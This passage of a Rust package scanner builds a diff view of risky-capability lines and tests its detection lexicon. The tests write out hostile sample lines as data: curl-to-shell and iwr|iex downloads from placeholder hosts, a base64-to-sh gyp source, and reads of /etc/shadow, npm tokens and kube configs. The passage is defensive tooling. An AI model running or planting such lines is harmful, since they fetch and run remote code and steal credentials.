        _ => vec![pattern],
    }
}

/// A pattern of the lexicon parsed as [`lexicon_syntax`] says.
#[cfg(test)]
fn parse_lexicon(pattern: &str) -> regex_syntax::hir::Hir {
    regex_automata::util::syntax::parse_with(pattern, &lexicon_syntax())
        .expect("capability lexicon parses")
}

/// Indices of [`NEEDLES`] one of which every match of `hir` holds, if the
/// pattern's structure shows some: a run of adjacent literal parts (small
/// alternations of literals expanded) each of whose texts holds one, a
/// concatenation with such a part, an alternation whose every branch has
/// some, a repetition of at least once of one. Classes, assertions and
/// optional parts hold none, so the answer errs only towards `None`.
#[cfg(test)]
fn needles_in(hir: &regex_syntax::hir::Hir) -> Option<Vec<usize>> {
    use regex_syntax::hir::HirKind;
    /// The needles in each text, if each holds one.
    fn held(texts: &[Vec<u8>]) -> Option<Vec<usize>> {
        let mut all = Vec::new();
        for t in texts {
            let mut any = false;
            for (i, n) in NEEDLES.iter().enumerate() {
                if t.windows(n.len()).any(|w| w == n.as_bytes()) {
                    any = true;
                    all.push(i);
                }
            }
            if !any {
                return None;
            }
        }
        all.sort_unstable();
        all.dedup();
        Some(all)
    }
    if let Some(texts) = literal_texts(hir) {
        return held(&texts);
    }
    match hir.kind() {
        HirKind::Concat(parts) => {
            let mut run = vec![Vec::new()];
            for part in parts {
                match literal_texts(part).and_then(|next| cross(&run, &next)) {
                    Some(longer) => {
                        run = longer;
                        if let Some(found) = held(&run) {
                            return Some(found);
                        }
                    }
                    None => {
                        run = vec![Vec::new()];
                        if let Some(found) = needles_in(part) {
                            return Some(found);
                        }
                    }
                }
            }
            None
        }
        HirKind::Alternation(branches) => {
            let mut all = Vec::new();
            for b in branches {
                all.extend(needles_in(b)?);
            }
            all.sort_unstable();
            all.dedup();
            Some(all)
        }
        HirKind::Capture(c) => needles_in(&c.sub),
        HirKind::Repetition(r) if r.min >= 1 => needles_in(&r.sub),
        _ => None,
    }
}

/// Every text `hir` matches, if it matches only a few literal texts.
#[cfg(test)]
fn literal_texts(hir: &regex_syntax::hir::Hir) -> Option<Vec<Vec<u8>>> {
    use regex_syntax::hir::HirKind;
    match hir.kind() {
        HirKind::Literal(lit) => Some(vec![lit.0.to_vec()]),
        HirKind::Capture(c) => literal_texts(&c.sub),
        HirKind::Alternation(bs) => {
            let mut all = Vec::new();
            for b in bs {
                all.extend(literal_texts(b)?);
            }
            Some(all)
        }
        HirKind::Concat(parts) => {
            let mut texts = vec![Vec::new()];
            for p in parts {
                let next = literal_texts(p)?;
                texts = cross(&texts, &next)?;
            }
            Some(texts)
        }
        _ => None,
    }
}

/// Every text of `a` followed by every text of `b`, if not too many.
#[cfg(test)]
fn cross(a: &[Vec<u8>], b: &[Vec<u8>]) -> Option<Vec<Vec<u8>>> {
    (a.len() * b.len() <= 256).then(|| {
        a.iter()
            .flat_map(|x| b.iter().map(move |y| [x.as_slice(), y].concat()))
            .collect()
    })
}

/// The whole lexicon as one set, as scans matched it before
/// [`SplitLexicon`]: what tests hold the split to.
#[cfg(test)]
fn lexicon() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| {
        regex::bytes::RegexSetBuilder::new(CLASSES.iter().map(|c| c.1))
            .unicode(false)
            .build()
            .expect("capability lexicon compiles")
    })
}

/// The view of one text, with the map back to it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Digest {
    pub text: Vec<u8>,
    /// Runs of source bytes copied into `text`: (view offset, source
    /// offset, length, is a section header), in order.
    runs: Vec<Run>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Run {
    at: usize,
    source: usize,
    len: usize,
    header: bool,
}

/// The separator written before each range of lines that does not follow
/// the previous one in the source.
const GAP: &[u8] = b"@@\n";

impl Digest {
    /// `span` of the view as a span of the source: from the first body line
    /// at or after its start (a section header names the file, the line
    /// after it is where the finding is) to the end of the last source byte
    /// before its end. An empty view maps to the empty span at 0.
    pub fn span_to_source(&self, span: Span) -> Span {
        // Runs are in view order and do not overlap, so both ends are
        // found by bisection: a linear search per slice made a package of
        // 40,000 small files quadratic (2.6 s, two thirds of it here).
        let after = &self.runs[self.runs.partition_point(|r| r.at + r.len <= span.start)..];
        let first = after.iter().find(|r| !r.header).or(after.first());
        let start = match first {
            Some(r) => r.source + span.start.saturating_sub(r.at).min(r.len),
            None => return Span { start: 0, end: 0 },
        };
        let last = self.runs[..self.runs.partition_point(|r| r.at < span.end)].last();
        let end = match last {
            Some(r) => r.source + (span.end - r.at).min(r.len),
            None => start,
        };
        Span {
            start,
            end: end.max(start),
        }
    }

    /// The source bytes `span` of the view holds, as spans of the source:
    /// each run of body lines it copied, clipped to it (section headers
    /// only name the file). A span holding no body line maps as
    /// [`span_to_source`](Self::span_to_source) maps it, so an uncleared
    /// slice is never left without a span to review.
    pub fn source_parts(&self, span: Span) -> Vec<Span> {
        let first = self.runs.partition_point(|r| r.at + r.len <= span.start);
        let parts: Vec<Span> = self.runs[first..]
            .iter()
            .take_while(|r| r.at < span.end)
            .filter(|r| !r.header)
            .map(|r| Span {
                start: r.source + span.start.saturating_sub(r.at),
                end: r.source + (span.end - r.at).min(r.len),
            })
            .filter(|sp| sp.start < sp.end)
            .collect();
        if parts.is_empty() {
            return vec![self.span_to_source(span)];
        }
        parts
    }
}

/// Builds a [`Digest`] line by line.
struct Builder {
    out: Digest,
    /// Source offset just past the last line copied, if any.
    copied_to: Option<usize>,
    /// The current section's header lines (offset, bytes), until written.
    header: Option<(usize, Vec<u8>)>,
    /// Whether the next line may be the `+++` line of a header.
    expect_plus: bool,
    /// Whether the current section is code (or the text has no sections).
    code: bool,
    /// Up to [`CONTEXT`] lines before the next capability line.
    before: std::collections::VecDeque<(usize, Vec<u8>)>,
    /// Lines still to copy after the last capability line.
    after: usize,
}

impl Builder {
    fn new() -> Builder {
        Builder {
            out: Digest::default(),
            copied_to: None,
            header: None,
            expect_plus: false,
            code: true,
            before: Default::default(),
            after: 0,
        }
    }

    fn copy(&mut self, at: usize, line: &[u8], header: bool) {
        self.copy_shown(at, line.len(), line, header);
    }

    /// Copies `shown` in place of the `len` source bytes at `at`. `shown`
    /// is the line itself or its folded form, which is never longer, so
    /// the run maps each byte shown into the line as written.
    fn copy_shown(&mut self, at: usize, len: usize, shown: &[u8], header: bool) {
        debug_assert!(shown.len() <= len);
        if self.copied_to != Some(at) && !header {
            self.out.text.extend_from_slice(GAP);
        }
        let run = Run {
            at: self.out.text.len(),
            source: at,
            len: shown.len(),
            header,
        };
        self.out.text.extend_from_slice(shown);
        match self.out.runs.last_mut() {
            Some(r) if r.header == header && r.source + r.len == at && r.at + r.len == run.at => {
                r.len += shown.len()
            }
            _ => self.out.runs.push(run),
        }
        self.copied_to = Some(at + len);
    }

    fn line(&mut self, at: usize, line: &[u8]) {
        if super::opens_section(line) {
            self.header = Some((at, line.to_vec()));
            self.expect_plus = true;
            self.before.clear();
            self.after = 0;
            // A binary file has no path line and no body.
            self.code = false;
            return;
        }
        if std::mem::take(&mut self.expect_plus) && line.starts_with(b"+++ ") {
            if let Some((_, h)) = &mut self.header {
                h.extend_from_slice(line);
            }
            let path = String::from_utf8_lossy(line[4..].trim_ascii_end());
            let path = path.strip_prefix("b/").unwrap_or(&path);
            self.code = !crate::input::render::is_inert(path);
            return;
        }
        let hit = if self.code && line.first() == Some(&b'+') {
            capability(&line[1..])
        } else {
            Hit::None
        };
        if !matches!(hit, Hit::None) {
            if let Some((h_at, h)) = self.header.take() {
                self.copy(h_at, &h, true);
                // The header is not where the range starts.
                self.copied_to = None;
            }
            for (b_at, b) in std::mem::take(&mut self.before) {
                self.copy(b_at, &b, false);
            }
            match hit {
                Hit::Folded(folded) => {
                    let shown = [b"+".as_slice(), &folded].concat();
                    self.copy_shown(at, line.len(), &shown, false);
                }
                _ => self.copy(at, line, false),
            }
            self.after = CONTEXT;
        } else if self.after > 0 {
            self.copy(at, line, false);
            self.after -= 1;
        } else {
            if self.before.len() == CONTEXT {
                self.before.pop_front();
            }
            self.before.push_back((at, line.to_vec()));
        }
    }
}

/// The capability view of the text made of `pieces` (each with its offset,
/// in order, together contiguous). Lines may straddle pieces.
///
/// A package's text comes as one piece per file section, and a section
/// starts the view afresh (its header, no context from the file before),
/// so runs of sections are digested on every core and joined: byte for
/// byte the view one pass gives (a unit test holds it). One pass on one
/// core was half of packaging's scan (27 ms of 43).
pub fn digest<'a>(pieces: impl Iterator<Item = (usize, &'a [u8])>) -> Digest {
    use rayon::prelude::*;
    let pieces: Vec<(usize, &[u8])> = pieces.collect();
    let total: usize = pieces.iter().map(|p| p.1.len()).sum();
    const PARALLEL_FROM: usize = 256 << 10;
    if total < PARALLEL_FROM || rayon::current_num_threads() < 2 {
        return digest_one_pass(pieces.into_iter());
    }
    // Cut before a piece that opens a section, where the piece before it
    // ends a line, into runs of about a quarter of a thread's share.
    let target = total / (4 * rayon::current_num_threads()) + 1;
    let mut groups: Vec<&[(usize, &[u8])]> = Vec::new();
    let (mut start, mut size) = (0, 0);
    for (i, (_, bytes)) in pieces.iter().enumerate() {
        let cut = i > start
            && size >= target
            && pieces[i - 1].1.last() == Some(&b'\n')
            && super::opens_section(bytes);
        if cut {
            groups.push(&pieces[start..i]);
            (start, size) = (i, 0);
        }
        size += bytes.len();
    }
    groups.push(&pieces[start..]);
    let parts: Vec<Digest> = groups
        .par_iter()
        .map(|g| digest_one_pass(g.iter().copied()))
        .collect();
    let mut out = Digest::default();
    for part in parts {
        let shift = out.text.len();
        out.text.extend_from_slice(&part.text);
        out.runs.extend(part.runs.into_iter().map(|r| Run {
            at: r.at + shift,
            ..r
        }));
    }
    out
}

/// [`digest`] in one pass.
fn digest_one_pass<'a>(pieces: impl Iterator<Item = (usize, &'a [u8])>) -> Digest {
    let mut b = Builder::new();
    // A line cut by a piece boundary, with its start offset.
    let mut carry: Option<(usize, Vec<u8>)> = None;
    for (start, bytes) in pieces {
        let mut pos = 0;
        while pos < bytes.len() {
            let end = memchr::memchr(b'\n', &bytes[pos..]).map_or(bytes.len(), |i| pos + i + 1);
            let part = &bytes[pos..end];
            let complete = part.last() == Some(&b'\n');
            let (at, line): (usize, Cow<[u8]>) = match carry.take() {
                Some((at, mut held)) => {
                    held.extend_from_slice(part);
                    (at, Cow::Owned(held))
                }
                None => (start + pos, Cow::Borrowed(part)),
            };
            if complete {
                b.line(at, &line);
            } else {
                carry = Some((at, line.into_owned()));
            }
            pos = end;
        }
    }
    if let Some((at, line)) = carry {
        b.line(at, &line);
    }
    b.out
}

/// [`digest`] of contiguous bytes.
pub fn digest_of(bytes: &[u8]) -> Digest {
    digest(std::iter::once((0, bytes)))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The capability classes `line` (without its diff marker) shows.
    fn classes_of(line: &[u8]) -> Vec<&'static str> {
        let mut out: Vec<&str> = lexicon()
            .matches(line)
            .into_iter()
            .map(|i| CLASSES[i].0)
            .collect();
        if long_run(line) && !out.contains(&"encoded") {
            out.push("encoded");
        }
        out
    }

    /// The hand-written runs say what the patterns in `RUNS` would, on
    /// the edges (one short, one enough, misaligned, broken) and on many
    /// random lines drawn from the characters that matter.
    #[test]
    fn long_runs_match_their_patterns() {
        let set = regex::bytes::RegexSetBuilder::new(RUNS)
            .unicode(false)
            .build()
            .unwrap();
        let hex = |n: usize| "\\x4f".repeat(n);
        let oct = |n: usize| "\\157".repeat(n);
        let edges = [
            ("A".repeat(199), false),
            ("A".repeat(200), true),
            (format!("{}={}", "a/".repeat(60), "b+".repeat(60)), false),
            (format!("x{}", "9".repeat(200)), true),
            (hex(39), false),
            (hex(40), true),
            (format!("\\{}", hex(40)), true),
            (format!("{}\\x4{}", hex(20), hex(20)), false),
            (format!("\\x{}", hex(40)), true),
            (oct(19), false),
            (oct(20), true),
            (format!("{}\\8{}", oct(10), oct(10)), false),
            (format!("\\\\{}", oct(20)), true),
        ];
        for (line, want) in &edges {
            assert_eq!(set.is_match(line.as_bytes()), *want, "pattern: {line:?}");
            assert_eq!(long_run(line.as_bytes()), *want, "by hand: {line:?}");
        }
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(14);
        // Lines of repeated pieces, so that runs of every kind, long and
        // short, aligned and broken, come up often.
        let pieces = [
            "\\x4f", "\\xg1", "\\x4", "\\157", "\\18", "\\", "x", "Ab9", "+/", "=", " ",
        ];
        let mut hits = 0;
        for _ in 0..4000 {
            let mut line = String::new();
            for _ in 0..rng.random_range(0..12) {
                let piece = pieces[rng.random_range(0..pieces.len())];
                line.push_str(&piece.repeat(rng.random_range(1..90)));
            }
            let want = set.is_match(line.as_bytes());
            hits += usize::from(want);
            assert_eq!(long_run(line.as_bytes()), want, "{line:?}");
        }
        assert!(
            hits > 400 && hits < 3600,
            "random lines of both kinds: {hits}"
        );
    }

    /// The search for [`NEEDLES`] only skips lines the lexicon would not
    /// match, and [`SplitLexicon`] tries every branch a line could match:
    /// parsed as the lexicon parses it, each branch of each class's pattern
    /// holds a needle in every match.
    #[test]
    fn every_capability_pattern_holds_a_needle() {
        for (name, pattern) in CLASSES {
            let branches = lexicon_branches(pattern);
            assert!(branches.len() > 1, "{name}: not an alternation");
            let missing: Vec<&str> = branches
                .iter()
                .copied()
                .filter(|b| needles_in(&parse_lexicon(b)).is_none())
                .collect();
            assert!(
                missing.is_empty(),
                "{name}: no needle in every match of\n{}",
                missing.join("\n")
            );
        }
        // The analysis is not vacuous: a pattern without a needle fails it.
        let hir = regex_syntax::ParserBuilder::new()
            .unicode(false)
            .build()
            .parse(r"\bbanana\s*\(")
            .unwrap();
        assert_eq!(needles_in(&hir), None);
        // And it names the needles a branch holds, not others.
        // (No prefix common to the branches: the parser would lift it out
        // of the alternation.)
        let hir = parse_lexicon(lexicon_branches(r"from\s+os\s+import\b|\bsubprocess\b")[0]);
        let named: Vec<&str> = needles_in(&hir)
            .unwrap()
            .iter()
            .map(|&i| NEEDLES[i])
            .collect();
        assert_eq!(named, ["from"]);
    }

    /// [`SplitLexicon`] compiles each group from its branches as written:
    /// joined again, they are the class's pattern, and each is a whole
    /// alternative (a branch that split one would not parse).
    #[test]
    fn lexicon_branches_joined_are_the_pattern() {
        let mut n = 0;
        for (name, pattern) in CLASSES {
            let branches = lexicon_branches(pattern);
            assert_eq!(
                parse_lexicon(&branches.join("|")),
                parse_lexicon(pattern),
                "{name}"
            );
            for b in &branches {
                assert!(
                    regex_syntax::ast::parse::Parser::new().parse(b).is_ok(),
                    "{name}: {b}"
                );
            }
            n += branches.len();
        }
        assert!(n > 100, "{n} branches");
        // Top-level alternatives only: a group's `|` is not split.
        assert_eq!(lexicon_branches(r"a(?:b|c)|d"), ["a(?:b|c)", "d"]);
    }

    /// Every line of this crate's sources, tests and policies.
    fn crate_lines() -> Vec<Vec<u8>> {
        crate::util::crate_files(&["src", "tests", "policies"])
            .iter()
            .flat_map(|f| f.split(|&b| b == b'\n').map(<[u8]>::to_vec))
            .collect()
    }

    /// The split lexicon says what the whole set says, on every line of
    /// this crate's sources and tests (which spell out what each pattern
    /// is for) and on random lines made of needles and the pieces around
    /// them in the patterns.
    #[test]
    fn the_split_lexicon_matches_what_the_whole_set_matches() {
        let whole = |line: &[u8]| needles().is_match(line) && lexicon().is_match(line);
        let split = split_lexicon();
        let lines = crate_lines();
        let (mut written, mut hits) = (0, 0);
        for line in &lines {
            let want = whole(line);
            assert_eq!(
                split.is_match(line),
                want,
                "{}",
                String::from_utf8_lossy(line)
            );
            written += 1;
            hits += usize::from(want);
        }
        assert!(
            written > 10_000 && hits > 500,
            "{written} lines, {hits} hits"
        );
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(20);
        let pieces = [
            " ", "  ", ".", "(", ")", "'", "\"", ",", "=", "|", "-c", "/", "os", "nt", "as", "sh",
            "import", "from", "require", "x", "\t", "$", "*", "[", "]", "_", ":", "env", "__",
        ];
        let mut hits = 0;
        for _ in 0..20_000 {
            let mut line = Vec::new();
            for _ in 0..rng.random_range(1..14) {
                if rng.random_bool(0.3) {
                    line.extend_from_slice(NEEDLES[rng.random_range(0..NEEDLES.len())].as_bytes());
                } else {
                    line.extend_from_slice(pieces[rng.random_range(0..pieces.len())].as_bytes());
                }
            }
            let want = whole(&line);
            hits += usize::from(want);
            assert_eq!(
                split.is_match(&line),
                want,
                "{}",
                String::from_utf8_lossy(&line)
            );
        }
        assert!(
            hits > 2_000 && hits < 18_000,
            "random lines of both kinds: {hits}"
        );
    }

    #[test]
    fn each_group_s_lazy_dfa_matches_what_its_regex_matches() {
        let split = split_lexicon();
        let lines = crate_lines();
        // Long lines too, which scans give to the regex: the DFA must
        // agree on them as well.
        let long: Vec<Vec<u8>> = lines.chunks(40).map(|c| c.join(&b' ')).collect();
        let (mut tried, mut hits) = (0, 0);
        for line in lines.iter().chain(&long) {
            for m in needles().find_overlapping_iter(line) {
                let g = usize::from(lexicon_split::GROUP_OF[m.pattern().as_usize()]);
                let group = &split.groups[g];
                if group.pattern.is_empty() {
                    continue;
                }
                let want = group.regex().is_match(line);
                assert_eq!(
                    group.dfa_match(g, line),
                    Some(want),
                    "group {g}: {}",
                    String::from_utf8_lossy(line)
                );
                tried += 1;
                hits += usize::from(want);
            }
        }
        assert!(
            tried > 5_000 && hits > 1_000,
            "{tried} tried, {hits} matched"
        );
    }

    /// The text of `capabilities/lexicon_split.rs` for [`computed_split`].
    fn split_source() -> String {
        let (group_of, groups) = computed_split();
        let mut out = String::from(
            "//! The split of the capability lexicon by needle, generated from\n\
             //! `CLASSES` and `NEEDLES` by the unit test\n\
             //! `the_shipped_lexicon_split_is_the_computed_one`: do not edit. After a\n\
             //! change to either, regenerate it with\n\
             //! `CANARY_BLESS=1 cargo test --lib shipped_lexicon_split`.\n\n",
        );
        out.push_str("/// For each of `NEEDLES`, its group in [`GROUPS`].\n#[rustfmt::skip]\n");
        out.push_str("pub(super) const GROUP_OF: [u8; super::NEEDLES.len()] = [\n");
        for line in group_of.chunks(16) {
            let line: Vec<String> = line.iter().map(usize::to_string).collect();
            out.push_str(&format!("    {},\n", line.join(", ")));
        }
        out.push_str("];\n\n");
        out.push_str(
            "/// Each distinct set of the lexicon's branches, as written in `CLASSES`\n\
             /// and joined by `|` (empty: a needle no branch is filed under).\n#[rustfmt::skip]\n\
             pub(super) const GROUPS: &[&str] = &[\n",
        );
        for g in &groups {
            out.push_str(&format!("    {g:?},\n"));
        }
        out.push_str("];\n");
        out
    }

    /// The split shipped in `capabilities/lexicon_split.rs` is the one the
    /// patterns give. With `CANARY_BLESS` set, the test writes it first.
    #[test]
    fn the_shipped_lexicon_split_is_the_computed_one() {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("src/precheck/capabilities/lexicon_split.rs");
        let want = split_source();
        if std::env::var_os("CANARY_BLESS").is_some() {
            std::fs::write(&path, &want).unwrap();
        }
        let (group_of, groups) = computed_split();
        let shipped_of: Vec<usize> = lexicon_split::GROUP_OF
            .iter()
            .map(|&g| usize::from(g))
            .collect();
        let shipped: Vec<&str> = lexicon_split::GROUPS.to_vec();
        let stale =
            "src/precheck/capabilities/lexicon_split.rs is stale: CLASSES or NEEDLES changed; \
                     regenerate it with `CANARY_BLESS=1 cargo test --lib shipped_lexicon_split`";
        assert_eq!(shipped_of, group_of, "{stale}");
        assert_eq!(shipped, groups, "{stale}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), want, "{stale}");
        // Groups fit the table's type, and the split is not one group.
        assert!(
            groups.len() < 256 && groups.len() > 10,
            "{} groups",
            groups.len()
        );
    }

    #[test]
    fn model_configs_name_this_lexicon() {
        let named = serde_json::to_string(&super::super::View::Capabilities).unwrap();
        assert_eq!(named, format!("\"{LEXICON}\""));
        // A model trained on v1 views (Unicode word boundaries) is refused,
        // not read through v2.
        let old = serde_json::from_str::<super::super::View>("\"capabilities/v1\"");
        assert!(old.is_err(), "{old:?}");
    }

    #[test]
    fn word_boundaries_are_ascii() {
        // A non-ASCII letter is not a word character here (v1 said it was),
        // so a name glued to one still counts, and non-ASCII lines are
        // matched like any other.
        assert_eq!(classes_of("ésubprocess.run(cmd)".as_bytes()), ["process"]);
        assert_eq!(classes_of("« os.environ »".as_bytes()), ["environment"]);
        assert!(classes_of("naïve résumé — 中文".as_bytes()).is_empty());
    }

    fn body(lines: &[&str]) -> String {
        lines.iter().map(|l| format!("+{l}\n")).collect()
    }

    #[test]
    fn every_class_compiles_and_names_what_it_matches() {
        assert_eq!(lexicon().len(), CLASSES.len());
        let cases = [
            // v7
            ("pydoc.pipepager('', cmd)", "process"),
            ("from pydoc import tempfilepager", "process"),
            ("_pyrepl.pager.pipe_pager(text, cmd)", "process"),
            ("child = pexpect.spawn(cmd)", "process"),
            ("p = ptyprocess.PtyProcess.spawn(argv)", "process"),
            ("import sh", "process"),
            ("sh.bash('-c', cmd)", "process"),
            ("from plumbum import local", "process"),
            ("local = plumbum.local", "process"),
            ("invoke.run(cmd, hide=True)", "process"),
            ("from invoke import run", "process"),
            ("s, o = commands.getstatusoutput(cmd)", "process"),
            ("import popen2", "process"),
            (
                "win32process.CreateProcess(None, cmd, None, None, 0, 0, None, None, si)",
                "process",
            ),
            ("win32api.WinExec(cmd, 0)", "process"),
            ("wmi.WMI().Win32_Process.Create(CommandLine=cmd)", "process"),
            ("const { execa } = require('execa');", "process"),
            ("import {execa} from 'execa';", "process"),
            ("execaSync('sh', ['-c', cmd]);", "process"),
            ("require('cross-spawn')('sh', args);", "process"),
            ("require('shelljs').exec(cmd);", "process"),
            ("import { $ } from 'zx';", "process"),
            ("require('node-pty').spawn('sh', args, {});", "process"),
            ("require('sudo-prompt').exec(cmd, opts, cb);", "process"),
            // v6
            ("from distutils.spawn import spawn", "process"),
            ("setuptools._distutils.spawn.spawn(cmd)", "process"),
            ("f = pkgutil.resolve_name(name)", "dynamic-code"),
            ("from pkgutil import resolve_name", "dynamic-code"),
            // v5
            ("webbrowser.open(u + data)", "network"),
            ("m = BaseManager(address=(h, p), authkey=k)", "network"),
            ("e = dict(os.environb)", "environment"),
            ("e = posix.environ", "environment"),
            ("const e = require('node:process').env;", "environment"),
            ("const e = Reflect.get(process, 'env');", "environment"),
            ("open('/proc/self/environ').read()", "environment"),
            ("p = sysconfig.get_paths()['purelib']", "environment"),
            ("const h = require('iohook');", "environment"),
            ("t = joblib.load(p)", "dynamic-code"),
            ("t = torch.load(p)", "dynamic-code"),
            ("a = np.load(p, allow_pickle=True)", "dynamic-code"),
            ("new Worker(src, { eval: true });", "dynamic-code"),
            ("subprocess.run(['ls'])", "process"),
            ("const { exec } = require('child_process');", "process"),
            ("urllib.request.urlopen(u)", "network"),
            ("const https = require('https');", "network"),
            ("curl -s http://203.0.113.9/p.sh | sh", "network"),
            ("exec(code)", "dynamic-code"),
            ("x = compile(src, 'f', 'exec')", "dynamic-code"),
            ("token = os.environ['TOKEN']", "environment"),
            ("path.join(os.homedir(), '.npmrc')", "environment"),
            ("cmdclass={'install': PostInstall},", "install-hook"),
            ("\"postinstall\": \"node install.js\"", "install-hook"),
            ("base64.b64decode(blob)", "encoded"),
            // v3: what v2 had no pattern for.
            ("import os as o", "process"),
            ("from os import path, system", "process"),
            ("from os import *", "process"),
            ("fn = getattr(os, name)", "process"),
            ("vars(os)[name]('id')", "process"),
            ("f = os.__getattribute__", "process"),
            ("os.__dict__[n]('id')", "process"),
            (
                "\"sources\": [\"<!(echo eA== | base64 -d | sh)\"]",
                "process",
            ),
            ("curl -s https://example.test/p | sudo bash", "process"),
            ("iwr https://example.test/p.ps1 | iex", "process"),
            (
                "certutil -urlcache -f https://example.test/a.exe a.exe",
                "process",
            ),
            ("const p = Bun.spawn(['sh', '-c', cmd]);", "process"),
            ("const m = require(name);", "dynamic-code"),
            ("await import(`./${x}.js`)", "dynamic-code"),
            ("(0, eval)(src)", "dynamic-code"),
            ("const f = Function('return this')();", "dynamic-code"),
            ("import https from 'node:https';", "network"),
            ("const { env } = process;", "environment"),
            ("from os import environ", "environment"),
            ("const t = process[k].NPM_TOKEN;", "environment"),
            ("const r = globalThis[k] || global[k];", "dynamic-code"),
            ("sys.modules[m].popen('id')", "dynamic-code"),
            ("globals()['__builtins__'][n]('1')", "dynamic-code"),
            ("setTimeout('alert(1)', 10)", "dynamic-code"),
            ("echo eA== | base64 -d", "encoded"),
            ("const axios = require('axios');", "network"),
            ("r, w = await asyncio.open_connection(host, 443)", "network"),
            (
                "fs.appendFileSync(path.join(home, '.bashrc'), line);",
                "environment",
            ),
            ("open('/etc/cron.d/update', 'w')", "environment"),
            // v4: what v3 had no pattern for.
            ("u.spawnv_passfds('/bin/sh', args, ())", "process"),
            ("operator.methodcaller('system', 'id')(os)", "process"),
            ("f = methodcaller(name, cmd)", "process"),
            ("const ws = new WebSocket('wss://203.0.113.9');", "network"),
            (
                "require('inspector').open(9229, '0.0.0.0');",
                "dynamic-code",
            ),
            ("WebAssembly.instantiate(buf, imports)", "dynamic-code"),
            ("zipimport.zipimporter(p).load_module('x')", "dynamic-code"),
            ("yaml.load(blob, Loader=yaml.UnsafeLoader)", "dynamic-code"),
            ("yaml.load(blob, Loader=yaml.Loader)", "dynamic-code"),
            ("dill.loads(blob)", "dynamic-code"),
            ("asyncio.create_subprocess_shell(cmd)", "process"),
            ("await loop.subprocess_exec(P, 'sh', '-c', c)", "process"),
            ("import threading, os as o", "process"),
            ("from os import (", "process"),
            ("const r = require;", "dynamic-code"),
            ("Reflect.apply(require, null, [m])", "dynamic-code"),
            ("const m = process.getBuiltinModule(n);", "dynamic-code"),
            (
                "const AF = Object.getPrototypeOf(async function () {}).constructor;",
                "dynamic-code",
            ),
            ("const G = (function* () {}).constructor;", "dynamic-code"),
            ("import('data:text/javascript,' + s);", "dynamic-code"),
            ("timeit.timeit(S, number=1)", "dynamic-code"),
            ("cProfile.run(S)", "dynamic-code"),
            (
                "code.InteractiveInterpreter().runsource(S, symbol='exec')",
                "dynamic-code",
            ),
            (
                "ctypes.pythonapi.PyRun_SimpleString(S.encode())",
                "dynamic-code",
            ),
            ("boto3.client('s3').upload_file(p, b, k)", "network"),
            (
                "srv = http.server.HTTPServer(('0.0.0.0', 8731), H)",
                "network",
            ),
            ("import socketserver, threading", "network"),
            ("await asyncio.start_server(H, '0.0.0.0', 8731)", "network"),
            ("from multiprocessing.connection import Listener", "network"),
            ("t = logging.config.listen(9999)", "network"),
            (
                "d = (Path(root) / '.kube' / 'config').read_text()",
                "environment",
            ),
            ("open('/etc/shadow').read()", "environment"),
            ("t = pyperclip.paste()", "environment"),
            ("from pynput import keyboard", "environment"),
            ("ImageGrab.grab().save(p)", "environment"),
            ("p = home / '.config/systemd/user/x.service'", "environment"),
            (
                "open(site.getsitepackages()[0] + '/x.pth', 'w')",
                "environment",
            ),
        ];
        for (line, class) in cases {
            assert!(
                classes_of(line.as_bytes()).contains(&class),
                "{line:?} should show {class}, got {:?}",
                classes_of(line.as_bytes())
            );
        }
        for line in [
            "RE_NUMBER = re.compile(r'[0-9]+')",
            "from importlib.metadata import version",
            "def parse(text: str) -> dict:",
            "return value.strip()",
            // Regex lookbehinds are not gyp expansions, nor Python's
            // parenthesised imports dynamic ones.
            "PATTERN = re.compile(r'(?<!(a|b))c')",
            "from typing import (Any, Dict)",
            "from os import path",
            "class Function(Base):",
            "fd = os.open(path, os.O_RDONLY | getattr(os, 'O_BINARY', 0))",
            "sys.modules[package_name] = weakref.proxy(module)",
            "const label = 'is' + '-' + 'number';",
            "yaml.load(blob, Loader=yaml.SafeLoader)",
            "rows.sort(key=attrgetter('name'))",
            "import sys, os",
            "from os import path, sep",
            "const x = require('./x');",
            "all = ['pandas[plot,output-formatting,clipboard,compression]',",
            // dnspython's own resolver, not pkgutil's.
            "answer = self.resolve_name(name, family)",
            // Not the `sh` library, an invoke task, or a `zx` string.
            "import shutil",
            "digest = hash.sha256(data)",
            "result = self.invoke(name, args)",
            "fmt = 'zx'",
            // Dependency lists name libraries; they run nothing.
            "\t\t\"execa\": \"^6.0.0\",",
            "    \"pexpect>4.3; sys_platform != 'win32'\",",
            "\"cross-spawn\": \"^7.0.3\",",
        ] {
            assert!(classes_of(line.as_bytes()).is_empty(), "{line:?}");
        }
    }

    #[test]
    fn the_view_keeps_capability_lines_with_context_from_code_files_only() {
        let text = format!(
            "--- /dev/null\n+++ b/README.md\n@@ -0,0 +1,2 @@\n{}--- /dev/null\n+++ b/pkg/mod.py\n@@ -0,0 +1,12 @@\n{}",
            body(&["run `subprocess.run` for fun", "ok"]),
            body(&[
                "a = 1", "b = 2", "c = 3", "d = 4", "import os", "x = os.environ['K']", "e = 5",
                "f = 6", "g = 7", "h = 8", "i = 9", "os.system('id')",
            ])
        );
        let d = digest_of(text.as_bytes());
        let view = String::from_utf8(d.text.clone()).unwrap();
        assert_eq!(
            view,
            "--- /dev/null\n+++ b/pkg/mod.py\n@@\n+d = 4\n+import os\n+x = os.environ['K']\n+e = 5\n+f = 6\n@@\n+h = 8\n+i = 9\n+os.system('id')\n"
        );
        // Slices of the view map back to the rendered text.
        let at = view.find("+x = os").unwrap();
        let s = d.span_to_source(Span {
            start: at,
            end: at + 5,
        });
        assert_eq!(&text[s.start..s.end], "+x = ");
        // A slice starting on the header maps to its first body line.
        let s = d.span_to_source(Span {
            start: 0,
            end: view.len(),
        });
        assert!(
            text[s.start..].starts_with("+d = 4\n"),
            "{}",
            &text[s.start..]
        );
        assert_eq!(s.end, text.len());
    }

    /// A name spelled in pieces is a capability, and the view shows the
    /// line folded (so the veto reads `o.homedir()`), mapped back to the
    /// line as written.
    #[test]
    fn names_spelled_in_pieces_are_read_folded() {
        let text = format!(
